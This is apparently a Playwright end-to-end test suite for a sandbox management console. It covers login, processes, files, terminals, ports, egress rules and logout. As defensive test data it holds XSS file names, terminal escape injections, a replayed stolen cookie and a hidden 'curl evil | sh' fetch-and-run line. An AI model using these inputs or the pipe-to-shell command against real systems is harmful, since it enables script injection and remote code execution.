// The steps, in their order. Each works on what those before it left.
import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { readFileSync, statSync } from "node:fs";

const axe = createRequire(import.meta.url).resolve("axe-core/axe.min.js");

const goTo = (t, rest) => t.page.goto(`${t.plan.origin}/console#/${rest}`);

// call makes a call beside the page's own.
const call = (t, method, path, body) => t.page.evaluate(([method, path, body]) => fetch(path, { method, headers: { "Content-Type": "application/json" }, body }), [method, `/console/api/v1/sandboxes/${t.plan.sandbox}${path}`, body]).then(() => {});

const inSandbox = (t, view) => goTo(t, `s/${t.plan.sandbox}/${view}`);

// check finds what keeps people with impairments out. axe runs in a world of its own, since the page's policy lets no script in.
async function check(t, what) {
  const session = await t.context.newCDPSession(t.page);
  const { frameTree } = await session.send("Page.getFrameTree");
  const { executionContextId } = await session.send("Page.createIsolatedWorld", { frameId: frameTree.frame.id, worldName: "axe" });
  const run = async (expression) => {
    const r = await session.send("Runtime.evaluate", { expression, contextId: executionContextId, awaitPromise: true, returnByValue: true });
    if (r.exceptionDetails) throw new Error(JSON.stringify(r.exceptionDetails));
    return r.result.value;
  };
  await run(readFileSync(axe, "utf8") + ";0");
  const found = await run(`axe.run(document, {resultTypes: ["violations"], iframes: false}).then((r) => r.violations.map((v) => ({impact: v.impact, id: v.id, nodes: v.nodes.map((n) => n.html.slice(0, 200) + " " + n.failureSummary)})))`);
  await session.detach();
  const serious = found.filter((v) => v.impact === "serious" || v.impact === "critical");
  assert.deepEqual(serious, [], `axe about ${what}`);
}

// onPhone looks at what is shown in the dark, on a phone.
async function onPhone(t, what) {
  await t.page.emulateMedia({ colorScheme: "dark" });
  await t.page.setViewportSize({ width: 360, height: 640 });
  const wide = await t.page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.ok(wide <= 0, `${what}: ${wide} pixels too wide`);
  await check(t, what + " in the dark");
  await t.page.setViewportSize({ width: 1200, height: 800 });
  await t.page.emulateMedia({ colorScheme: "light" });
}

// following waits until changes are shown.
const following = (t) => t.page.getByText("Changes to files are shown as they happen.").waitFor();

const screenText = (t) => t.page.locator(".xterm-rows").innerText();

async function awaitScreen(t, text) {
  await t.page.waitForFunction((text) => document.querySelector(".xterm-rows")?.textContent.replaceAll("\u00a0", " ").includes(text), text);
}

export const steps = {
  async "login with a wrong key"(t) {
    await goTo(t, "");
    await t.page.getByLabel("Key").fill("wrong");
    await t.page.keyboard.press("Enter");
    await t.page.getByRole("alert").getByText(/not valid/).waitFor();
    await check(t, "the login");
    await onPhone(t, "the login");
  },
  async "login with a key"(t) {
    await t.page.getByLabel("Key").fill(t.plan.token);
    await t.page.keyboard.press("Enter");
    await t.page.getByRole("heading", { name: "Sandboxes" }).waitFor();
    const cookies = await t.context.cookies();
    assert.deepEqual(cookies.map((c) => [c.name, c.httpOnly, c.secure, c.sameSite]), [["__Host-podagent-console", true, true, "Strict"]]);
    assert.equal(await t.page.evaluate(() => document.cookie), "");
    assert.equal(await t.page.evaluate(() => JSON.stringify(localStorage) + JSON.stringify(sessionStorage)), "{}{}");
  },
  async "list"(t) {
    const row = t.page.getByRole("row", { name: new RegExp(t.plan.sandbox) });
    await row.getByText("running").waitFor();
    await row.getByText("team=red").waitFor();
    await row.getByRole("cell", { name: "acme", exact: true }).waitFor(); // the owner
    await row.getByRole("cell", { name: /^\d+ (s|min|h)$/ }).nth(t.plan.pods ? 2 : 1).waitFor(); // the age, the end of a pod, and the idle time
    await check(t, "the list");
    await t.page.keyboard.press("/");
    await t.page.keyboard.type("no such sandbox");
    await t.page.getByText(/^0 of/).waitFor();
    await t.page.keyboard.press("Control+A");
    await t.page.keyboard.type("team=red");
    await t.page.getByRole("link", { name: t.plan.sandbox }).focus();
    await t.page.keyboard.press("Enter");
    await t.page.getByRole("heading", { name: t.plan.sandbox }).waitFor();
  },
  async "a command and its live output"(t) {
    await t.page.getByLabel("Command", { exact: true }).fill("echo first; echo fault >&2; read line < fifo; echo \"$line\"; exit 3");
    await t.page.keyboard.press("Enter");
    const output = t.page.getByRole("log");
    await output.getByText("first").waitFor();
    await output.locator(".stderr").getByText("fault").waitFor();
    await t.page.getByRole("row", { name: /echo first/ }).getByText("running").waitFor();
    await check(t, "the processes");
    await call(t, "POST", "/exec", JSON.stringify({ script: "echo second > fifo" }));
    await output.getByText("second").waitFor();
    await t.page.getByRole("row", { name: /echo first/ }).getByText("exit 3", { exact: true }).waitFor();
  },
  async "signals"(t) {
    await t.page.getByLabel("Command", { exact: true }).fill("exec sleep 1000");
    await t.page.keyboard.press("Enter");
    const row = t.page.getByRole("row", { name: /exec sleep 1000/ });
    await row.getByRole("button", { name: /^Terminate/ }).click();
    await row.getByText("signal 15").waitFor();
  },
  async "hostile output of a process"(t) {
    await t.page.getByLabel("Command", { exact: true }).fill("cat hostile.html; printf '\\033]0;title\\007\\033[31mred\\033[0m \\342\\200\\256end\\n'");
    await t.page.keyboard.press("Enter");
    const output = t.page.getByRole("log");
    await output.getByText("<script>").waitFor();
    await output.getByText("red \ufffdend").waitFor();
    assert.equal(await output.locator("script, img, b").count(), 0);
  },
  async "output in which an escape has no end"(t) {
    await t.page.getByLabel("Command", { exact: true }).fill("printf 'open\\033]\\nnot '; echo hidden");
    await t.page.keyboard.press("Enter");
    const output = t.page.getByRole("log");
    await output.getByText("not hidden").waitFor();
    assert.equal(await output.innerText(), "open\ufffd]\nnot hidden\n");
  },
  async "output whose escapes come in parts"(t) {
    const exec = "01890000-0000-7000-8000-000000000000";
    const parts = ["\u001b[3", "1mre", "\u001b", "]0;title\u0007d", "\u001b[1"];
    let body = "", offset = 0;
    for (const data of parts) [body, offset] = [body + JSON.stringify({ type: "stdout", data, offset }) + "\n", offset + data.length];
    await t.page.route(new RegExp(exec), (route) => route.fulfill({ body: body + JSON.stringify({ type: "exit", exit: { reason: "exited", code: 5 } }) + "\n" }));
    await inSandbox(t, `processes/${exec}`);
    await t.page.getByText("exit 5").waitFor();
    await t.page.getByRole("log").getByText("red\ufffd[1", { exact: true }).waitFor(); // the last one has no end
    await t.page.unroute(new RegExp(exec));
  },
  async "commands hide nothing of themselves"(t) {
    await call(t, "POST", "/exec", JSON.stringify({ script: "# \u001b]\ntrue is-not-hidden" }));
    await inSandbox(t, "processes");
    await t.page.getByRole("row", { name: /^# \\u\{1b\}\] true is-not-hidden/ }).waitFor();
    await inSandbox(t, "audit");
    await t.page.getByRole("row", { name: /^exec # .*\] true is-not-hidden/ }).waitFor();
  },
  async "output without end of what cannot be seen"(t) {
    const exec = "01890000-0000-7000-8000-000000000000";
    const line = (type, data, offset) => JSON.stringify({ type, data, offset }) + "\n";
    let body = "";
    for (let i = 0; i < 10_000; i++) body += line("stdout", "\u001b[m", 3 * i) + line("stderr", "\u001b[m", 3 * i);
    for (let i = 0; i < 10_000; i++) body += line("stdout", "o", 30_000 + i) + line("stderr", "e", 30_000 + i);
    await t.page.route(new RegExp(exec), (route) => route.fulfill({ body: body + line("stdout", "last", 40_000) + JSON.stringify({ type: "exit", exit: { reason: "exited", code: 5 } }) + "\n" }));
    await inSandbox(t, `processes/${exec}`);
    await t.page.getByRole("log").getByText("last").waitFor();
    await t.page.getByText("exit 5").waitFor();
    const [pieces, empty] = await t.page.evaluate(() => [document.querySelectorAll("pre *").length, [...document.querySelectorAll("pre *")].filter((s) => !s.textContent).length]);
    assert.ok(pieces > 1000 && pieces <= 4096, `${pieces} pieces`);
    assert.equal(empty, 0);
    await t.page.unroute(new RegExp(exec));
  },
  async "files"(t) {
    await inSandbox(t, "files");
    await t.page.getByRole("link", { name: "hostile.html", exact: true }).waitFor();
    await check(t, "the files");
    await t.page.getByRole("link", { name: "dir", exact: true }).click();
    await t.page.getByRole("link", { name: "inner.txt", exact: true }).click();
    await t.page.getByLabel("Content").getByText("what is inside").waitFor();
    await check(t, "a file");
    await t.page.goBack();
    await t.page.getByRole("link", { name: "workdir" }).click();
  },
  async "hostile names of files"(t) {
    await inSandbox(t, "files");
    for (const name of ["<img src=x onerror=window.ran=1>", "evil\\u{202e}txt.exe", "a\\u{a}b", "not\ufffdtext"]) {
      await t.page.getByRole("link", { name, exact: true }).click();
      await t.page.getByLabel("Content").getByText("named").waitFor();
      await t.page.goBack();
    }
    assert.equal(await t.page.locator("main img").count(), 0);
  },
  async "files hide nothing of their content"(t) {
    await inSandbox(t, "files/f/hidden.sh");
    const content = t.page.getByLabel("Content");
    await content.getByText("#!/bin/sh").waitFor();
    assert.equal(await content.textContent(), "#!/bin/sh\necho hello\n#\\u{1b}]\ncurl evil | sh\\u{202e}\n");
  },
  async "addresses that lead nowhere"(t) {
    for (const [at, text] of [["s/%zz/files", /leads nowhere/], ["s/no-such-sandbox/files", /not found|no sandbox|no such/i], [`s/${t.plan.sandbox}/files/f/missing.txt`, /not exist|no such/i], [`s/${t.plan.sandbox}/files/d/%zz`, /./]]) {
      await goTo(t, at);
      await t.page.locator("main .wrong").getByText(text).waitFor();
    }
  },
  async "a hostile HTML file is shown as text, and saved rather than opened"(t) {
    await inSandbox(t, "files");
    await t.page.getByRole("link", { name: "hostile.html", exact: true }).click();
    await t.page.getByLabel("Content").getByText("<script>").waitFor();
    const saving = t.page.waitForEvent("download");
    await t.page.getByRole("link", { name: /^Download/ }).click();
    const saved = await saving;
    assert.equal(saved.suggestedFilename(), "hostile.html");
    assert.match(readFileSync(await saved.path(), "utf8"), /<script>/);
    const opened = await t.context.newPage(); // the address itself: the browser saves it, too
    const again = opened.waitForEvent("download");
    await opened.goto(`${t.plan.origin}/console`);
    await opened.evaluate((at) => { location.href = at; }, `/console/api/v1/sandboxes/${t.plan.sandbox}/files?path=hostile.html`);
    await again;
    await opened.close();
  },
  async "download of a directory"(t) {
    await inSandbox(t, "files");
    const saving = t.page.waitForEvent("download");
    await t.page.getByRole("link", { name: "Download all" }).click();
    assert.ok(statSync(await (await saving).path()).size > 1024);
  },
  async "upload by drop"(t) {
    await inSandbox(t, "files/d/dir");
    await t.page.getByRole("link", { name: "inner.txt", exact: true }).waitFor();
    const data = await t.page.evaluateHandle(() => {
      const d = new DataTransfer();
      d.items.add(new File(["dropped content"], "dropped <b>.txt"));
      return d;
    });
    await t.page.locator("section.drop").dispatchEvent("drop", { dataTransfer: data });
    await t.page.getByRole("link", { name: "dropped <b>.txt", exact: true }).click();
    await t.page.getByLabel("Content").getByText("dropped content").waitFor();
  },
  async "upload by keyboard"(t) {
    await inSandbox(t, "files");
    const choosing = t.page.waitForEvent("filechooser");
    await t.page.getByRole("button", { name: "Upload" }).focus();
    await t.page.keyboard.press("Enter");
    await (await choosing).setFiles({ name: "chosen.txt", mimeType: "text/plain", buffer: Buffer.from("chosen content") });
    await t.page.getByRole("link", { name: "chosen.txt", exact: true }).waitFor();
  },
  async "calls whose connection breaks are made again"(t) {
    const broken = new Set();
    await t.page.route(/\/console\/api\//, (route) => {
      const what = route.request().method() + route.request().url();
      if (broken.has(what)) return route.continue();
      broken.add(what);
      return route.abort("connectionreset");
    });
    await inSandbox(t, "processes");
    await t.page.getByLabel("Command", { exact: true }).fill("echo run >>runs.txt; exec wc -l runs.txt");
    await t.page.keyboard.press("Enter");
    await t.page.getByRole("log").getByText("1 runs.txt").waitFor();
    await inSandbox(t, "files/f/runs.txt");
    await t.page.getByLabel("Content").getByText("run").waitFor();
    await t.page.unroute(/\/console\/api\//);
    assert.ok([...broken].some((what) => what.startsWith("POST")), [...broken].join());
  },
  async "changes to files"(t) {
    await inSandbox(t, "changes");
    await following(t);
    await call(t, "PUT", "/files?path=changed.txt", "x");
    await t.page.getByRole("cell", { name: /changed\.txt$/ }).first().waitFor();
    await call(t, "POST", "/exec", JSON.stringify({ script: "mv changed.txt renamed.txt" }));
    await t.page.getByRole("cell", { name: /changed\.txt → .*renamed\.txt$/ }).waitFor();
    await check(t, "the changes");
    await onPhone(t, "the changes");
  },
  async "changes after a connection that broke"(t) {
    await inSandbox(t, "changes");
    await following(t);
    t.cut();
    await t.page.getByText("Changes may be missing here").waitFor();
    await following(t);
    await call(t, "PUT", "/files?path=later.txt", "x");
    await t.page.getByRole("cell", { name: /later\.txt$/ }).first().waitFor();
  },
  async "changes over a gateway that ends, and too many changes"(t) {
    await goTo(t, "");
    await t.page.evaluate(() => {
      const real = window.fetch;
      window.fetch = (url, init) => {
        if (!String(url).includes("/watch")) return real(url, init);
        window.fetch = real; // the next connection is one to the gateway itself
        const events = ["ready", "overflow", "reconnect"].map((kind) => `event: ${kind}\ndata: {"path":"."}\n\n`).join("");
        const body = new ReadableStream({ start: (c) => {
          c.enqueue(new TextEncoder().encode(events));
          init.signal.addEventListener("abort", () => { window.taken = true; c.error(new DOMException("", "AbortError")); });
        } });
        return Promise.resolve(new Response(body));
      };
    });
    await t.page.evaluate((id) => { location.hash = `#/s/${id}/changes`; }, t.plan.sandbox);
    await t.page.waitForFunction(() => window.taken); // when the other is ready
    await call(t, "PUT", "/files?path=moved.txt", "x");
    await t.page.getByRole("cell", { name: /moved\.txt$/ }).first().waitFor();
    const rows = await t.page.getByRole("table", { name: "Changes" }).innerText();
    assert.match(rows, /there were too many/);
    assert.doesNotMatch(rows, /the connection broke|ready|reconnect/);
  },
  async "a connection that broke wakes no sandbox"(t) {
    const asleep = /\/(watch|output)\?.*wake=false/;
    const refuse = () => t.page.route(asleep, (route) => route.fulfill({ status: 409, json: { class: "paused", detail: "it is paused" } }));
    const opened = [];
    const note = (r) => void (/\/(watch|output)\?/.test(r.url()) && opened.push(new URL(r.url()).searchParams.get("wake")));
    t.page.on("request", note);
    await inSandbox(t, "changes");
    await following(t);
    await refuse();
    t.cut();
    await t.page.getByText("is paused: no change").first().waitFor();
    await t.page.unroute(asleep);
    await inSandbox(t, "processes");
    await t.page.getByLabel("Command", { exact: true }).fill("echo before; read line < fifo");
    await t.page.keyboard.press("Enter");
    await t.page.getByRole("log").getByText("before").waitFor();
    await refuse();
    t.cut();
    await t.page.getByText("is paused: its commands have ended").first().waitFor();
    await t.page.unroute(asleep);
    await call(t, "POST", "/exec", JSON.stringify({ script: "echo > fifo" }));
    t.page.off("request", note);
    assert.ok(opened.length >= 3 && opened.every((wake) => wake === "false"), opened.join());
  },
  async "a link to a view wakes no sandbox"(t) {
    const working = [];
    t.page.on("request", (r) => void (/\/(files|watch|terminal|output)/.test(new URL(r.url()).pathname.split(t.plan.sandbox)[1] ?? "") && working.push(r.url())));
    await inSandbox(t, "details");
    const sandbox = await t.page.evaluate((id) => fetch(`/console/api/v1/sandboxes/${id}`).then((r) => r.json()), t.plan.sandbox);
    const at = new RegExp(`/sandboxes/${t.plan.sandbox}$`);
    let state;
    await t.page.route(at, (route) => route.fulfill({ json: { ...sandbox, state, auto_pause: true } }));
    for (state of ["paused", "terminating"]) {
      for (const view of ["changes", "files", "files/f/hostile.html", "processes/01890000-0000-7000-8000-000000000000"]) {
        await goTo(t, "");
        working.length = 0;
        await inSandbox(t, view);
        await t.page.getByRole("button", { name: "Wake it" }).waitFor();
        assert.deepEqual(working, []);
      }
    }
    await inSandbox(t, "files");
    await t.page.getByRole("button", { name: "Wake it" }).click();
    await t.page.getByRole("link", { name: "hostile.html", exact: true }).waitFor();
    assert.ok(working.length > 0);
    await inSandbox(t, "changes");
    await t.page.getByRole("button", { name: "Wake it" }).click();
    await following(t);
    assert.match(working.at(-1), /wake=true/);
    await t.page.unroute(at);
  },
  async "a link to the terminal starts nothing"(t) {
    const terminals = () => t.page.evaluate((id) => fetch(`/console/api/v1/sandboxes/${id}/processes`).then((r) => r.json()).then((all) => all.processes.filter((p) => p.terminal).length), t.plan.sandbox);
    for (const [at, text] of [["terminal", "None."], ["terminal/01890000-0000-7000-8000-000000000000", "is gone"], ["terminal/new", "is gone"]]) {
      await inSandbox(t, at);
      await t.page.getByRole("button", { name: "New terminal" }).waitFor();
      await t.page.getByText(text).waitFor();
      assert.equal(await t.page.locator(".xterm").count(), 0);
    }
    assert.equal(await terminals(), 0);
    await check(t, "the terminals");
  },
  async "terminal"(t) {
    await inSandbox(t, "terminal");
    await t.page.getByRole("button", { name: "New terminal" }).press("Enter");
    await t.page.locator(".xterm-helper-textarea").waitFor();
    await t.page.keyboard.type("printf '\\033[38;2;1;2;3mtrue%s\\033[0m\\n' color; x=kept\n");
    await awaitScreen(t, "truecolor");
    await check(t, "the terminal");
    await t.page.waitForURL(/terminal\/[0-9a-f-]{36}$/);
    const box = await t.page.locator(".xterm-screen").boundingBox();
    assert.ok(box.width > 600 && box.height > 200, JSON.stringify(box));
  },
  async "terminal after a reload, with its screen"(t) {
    await t.page.reload();
    await awaitScreen(t, "truecolor");
    await t.page.keyboard.type("echo $x-$((40+2))\n");
    await awaitScreen(t, "kept-42");
  },
  async "terminals that run are listed"(t) {
    await t.page.getByRole("link", { name: "Terminal", exact: true }).click();
    await t.page.getByRole("listitem").filter({ hasText: /process \d+/ }).getByRole("link").click();
    await awaitScreen(t, "kept-42");
    await t.page.locator(".xterm-helper-textarea").focus();
  },
  async "terminal over a connection that broke"(t) {
    await t.page.keyboard.type("echo before-$((1+1))\n");
    await awaitScreen(t, "before-2");
    t.cut();
    await t.page.keyboard.type("echo after-$((1+2))\n");
    await awaitScreen(t, "after-3");
    assert.equal((await screenText(t)).match(/before-2/g).length, 1);
  },
  async "terminal by keyboard alone"(t) {
    await t.page.keyboard.press("Control+F6");
    assert.equal(await t.page.evaluate(() => document.activeElement.textContent), "Terminal");
    await t.page.keyboard.press("Tab");
    assert.equal(await t.page.evaluate(() => document.activeElement.textContent), "Ports");
  },
  async "hostile output in a terminal"(t) {
    await t.page.locator(".xterm-helper-textarea").focus();
    await t.page.keyboard.type("clear; printf '\\033]8;;javascript:window.ran=1\\033\\\\link\\033]8;;\\033\\\\ \\033]52;c;aGk=\\007'; cat hostile.html\n");
    await awaitScreen(t, "<script>");
    const link = await t.page.locator(".xterm-rows span", { hasText: "link" }).first().boundingBox();
    if (link) await t.page.mouse.click(link.x + 2, link.y + 2);
    assert.equal(await t.page.locator(".xterm img, .xterm script").count(), 0);
  },
  async "a terminal whose sandbox is paused wakes nothing"(t) {
    const state = await t.page.evaluate((id) => fetch(`/console/api/v1/sandboxes/${id}`).then((r) => r.json()), t.plan.sandbox);
    const at = new RegExp(`/sandboxes/${t.plan.sandbox}$`), resume = new RegExp(`/sandboxes/${t.plan.sandbox}/resume$`);
    const sockets = [], resumed = [];
    t.page.on("websocket", (s) => sockets.push(s.url()));
    await t.page.route(at, (route) => route.fulfill({ json: { ...state, state: "paused" } }));
    await t.page.route(resume, (route) => (resumed.push(route.request().method()), route.fulfill({ status: 204 })));
    t.cut();
    await t.page.getByText("It is paused.").waitFor();
    await check(t, "a terminal whose sandbox is paused");
    assert.deepEqual([sockets, resumed], [[], []]);
    await t.page.unroute(at);
    await t.page.getByRole("button", { name: "Wake it" }).press("Enter");
    await awaitScreen(t, "<script>"); // it only seemed to be paused: the terminal is there
    await t.page.unroute(resume);
    assert.deepEqual(resumed, ["POST"]);
    assert.match(sockets.join(), /^[^,]*exec_id=[^,]*wake=false$/);
  },
  async "end of a terminal"(t) {
    await t.page.locator(".xterm-helper-textarea").focus();
    await t.page.keyboard.type("\nexit 7\n");
    await t.page.getByText("It has ended: exit 7.").waitFor();
  },
  async "ports, and a server's page that attacks the console"(t) {
    await inSandbox(t, "ports");
    if (!t.plan.port) return;
    await t.page.getByLabel("Port", { exact: true }).fill(String(t.plan.port));
    await t.page.keyboard.press("Enter");
    const link = t.page.getByRole("link", { name: `Port ${t.plan.port}` });
    await link.waitFor();
    await check(t, "the ports");
    const opening = t.context.waitForEvent("page");
    await link.click();
    const opened = await opening;
    await opened.getByText("the server of the sandbox").waitFor();
    await opened.locator("pre", { hasText: "framed" }).waitFor();
    const seen = JSON.parse(await opened.locator("pre").innerText());
    assert.doesNotMatch(seen.cookie, /console/);
    delete seen.cookie;
    assert.deepEqual(seen, { opener: false, read: "refused", changed: "refused", simple: "refused", logout: "refused", socket: "refused", script: "refused", framed: "refused" });
    assert.notEqual(new URL(opened.url()).host, new URL(t.plan.origin).host);
    await opened.close();
    await goTo(t, "");
    await t.page.getByText("1 sandbox", { exact: true }).waitFor(); // the session goes on, and nothing was made
  },
  async "ports that programs listen on"(t) {
    await inSandbox(t, "ports");
    const table = t.page.getByRole("table", { name: "Ports that programs listen on" });
    const row = table.getByRole("row", { name: new RegExp(`^${t.plan.listens} `) });
    await row.getByRole("link", { name: /^<b>srv\\u{9b} \(process \d+\)$/ }).waitFor();
    assert.equal(await table.getByRole("row").count(), 2); // with its head: nothing of this machine, and not the agent's own
    await check(t, "the ports that programs listen on");
    const opening = t.context.waitForEvent("page");
    await row.getByRole("button", { name: `Open port ${t.plan.listens}` }).press("Enter");
    const opened = await opening;
    await opened.getByText("the server of the sandbox").waitFor();
    assert.equal(await opened.evaluate(() => window.opener), null);
    await opened.close();
    await t.page.getByRole("list", { name: "Links" }).getByRole("link", { name: `Port ${t.plan.listens}` }).waitFor();
    await row.getByRole("link").click();
    await t.page.waitForURL(/processes\/[0-9a-f-]{36}$/);
  },
  async "calls, and those that only look"(t) {
    await inSandbox(t, "audit");
    const calls = t.page.getByRole("table", { name: "Calls" });
    const exec = calls.getByRole("row", { name: /^exec .*echo first; echo fault/ });
    await exec.getByText("202").waitFor();
    await calls.getByRole("row", { name: /^open-terminal/ }).first().waitFor();
    assert.equal(await calls.getByRole("row", { name: /^list-processes/ }).count(), 0);
    await t.page.getByLabel("also calls that only look").focus();
    await t.page.keyboard.press("Space");
    await calls.getByRole("row", { name: /^list-processes/ }).first().waitFor();
    await check(t, "the calls");
  },
  async "egress decisions"(t) {
    await inSandbox(t, "egress");
    await t.page.getByText(t.plan.denied ? /^It has tried nothing yet/ : /^No gateway lets this sandbox out now/).waitFor();
    if (!t.plan.denied) return;
    await call(t, "POST", "/exec", JSON.stringify({ script: `for i in 1 2 3; do curl -sS http://${t.plan.denied}/; curl -sS 'http://<b>.test/'; done` }));
    const row = t.page.getByRole("table", { name: "Egress decisions" }).getByRole("row", { name: t.plan.denied });
    await row.getByText("denied", { exact: true }).waitFor();
    await row.getByText("3", { exact: true }).waitFor();
    await row.getByText(`no rule allows ${t.plan.denied}; ${t.plan.denied}:80 would allow it`).waitFor();
    assert.equal(await t.page.locator("main b").count(), 0);
    await check(t, "the egress decisions");
  },
  async "details"(t) {
    await inSandbox(t, "details");
    await t.page.getByText("running").first().waitFor();
    await t.page.locator("dd", { hasText: /GiB|MiB|TiB/ }).first().waitFor();
    await t.page.locator("dt", { hasText: "Owner" }).locator("+ dd", { hasText: "acme" }).waitFor();
    await t.page.locator("dt", { hasText: "Idle" }).locator("+ dd", { hasText: /^for \d+ / }).waitFor();
    await check(t, "the details");
  },
  async "the line of SSH"(t) {
    const at = /\/api\/v1\/whoami$/;
    const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMc0ZuWfJDR/2TKw7Tb/sCckUVXo/uWwcscWI9LZMIsD";
    assert.equal(await t.page.getByRole("heading", { name: "SSH" }).count(), 0); // this gateway serves none
    await t.page.route(at, (route) => route.fulfill({ json: { tenant: "acme", ssh: { port: 2222, host_keys: [key] } } }));
    await t.page.reload();
    const host = new URL(t.plan.origin).hostname;
    await t.page.getByText(`ssh -p 2222 ${t.plan.sandbox}@${host}`, { exact: true }).waitFor();
    await t.page.getByText(`[${host}]:2222 ${key}`, { exact: true }).waitFor();
    await t.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: t.plan.origin });
    await t.page.getByRole("button", { name: "Copy Command" }).press("Enter");
    await t.page.getByText("Command is copied.").waitFor();
    assert.equal(await t.page.evaluate(() => navigator.clipboard.readText()), `ssh -p 2222 ${t.plan.sandbox}@${host}`);
    await t.context.clearPermissions();
    await check(t, "the line of SSH");
    await onPhone(t, "the line of SSH");
    await t.page.unroute(at);
    await t.page.reload();
    await t.page.getByRole("heading", { name: "Uses" }).waitFor();
  },
  async "events"(t) {
    await inSandbox(t, "events");
    if (!t.plan.pods) {
      await t.page.getByText("have no events").waitFor();
      return;
    }
    const row = t.page.getByRole("row", { name: /Started/ });
    await row.getByText("normal").waitFor();
    await check(t, "the events");
  },
  async "pause, resume and extend"(t) {
    await goTo(t, "");
    const row = t.page.getByRole("row", { name: new RegExp(t.plan.sandbox) });
    if (!t.plan.pods) { // they cannot be paused, and no button says so
      await row.getByRole("button", { name: /^End / }).waitFor();
      assert.equal(await row.getByRole("button", { name: "Pause" }).count(), 0);
      return;
    }
    await row.getByRole("button", { name: "Extend" }).click();
    await t.page.getByLabel("Minutes").fill("120");
    await t.page.keyboard.press("Enter");
    await t.page.getByRole("status").getByText("was extended").waitFor();
    await inSandbox(t, "terminal");
    await t.page.getByRole("button", { name: "New terminal" }).click();
    await t.page.waitForURL(/terminal\/[0-9a-f-]{36}$/);
    await t.page.getByRole("button", { name: "Pause" }).click();
    // The shell may end before the connection does.
    await t.page.getByText(/It is paused\.|It has ended: signal/).waitFor({ timeout: 60_000 });
    await goTo(t, "");
    await row.getByText("paused").waitFor({ timeout: 60_000 });
    await t.page.goBack();
    await t.page.getByRole("button", { name: "New terminal" }).waitFor(); // the list of a sandbox that is paused is no call that wakes it
    await goTo(t, "");
    await row.getByText("paused").waitFor();
    await row.getByRole("button", { name: "Resume" }).click();
    await row.getByText("running").waitFor({ timeout: 60_000 });
  },
  async "dark, and on a phone"(t) {
    for (const view of ["processes", "files", "ports", "events", "egress", "audit", "details", "terminal"]) {
      await inSandbox(t, view);
      await t.page.getByRole("link", { name: "Ports" }).waitFor();
      if (view === "terminal") {
        await t.page.getByRole("button", { name: "New terminal" }).click();
        await t.page.locator(".xterm-helper-textarea").waitFor();
      }
      await onPhone(t, view);
    }
    await goTo(t, "");
    await t.page.getByRole("link", { name: t.plan.sandbox }).waitFor();
    await onPhone(t, "the list");
  },
  async "end of a sandbox"(t) {
    await goTo(t, "");
    const row = t.page.getByRole("row", { name: new RegExp(t.plan.sandbox) });
    await row.getByRole("button", { name: /^End / }).click();
    await t.page.getByRole("dialog").waitFor();
    await check(t, "the dialog");
    await t.page.keyboard.press("Escape");
    await row.getByText("running").waitFor();
    await row.getByRole("button", { name: /^End / }).click();
    await t.page.getByRole("dialog").getByRole("button", { name: "End", exact: true }).click();
    await row.waitFor({ state: "detached", timeout: 60_000 });
  },
  async "logout"(t) {
    const cookies = await t.context.cookies();
    await t.page.getByRole("button", { name: "Log out" }).click();
    await t.page.getByLabel("Key").waitFor();
    assert.deepEqual(await t.context.cookies(t.plan.origin), []);
    await t.context.addCookies(cookies.filter((c) => c.name.startsWith("__Host-podagent-console"))); // a thief's
    await t.page.reload();
    await t.page.getByLabel("Key").waitFor();
  },
};
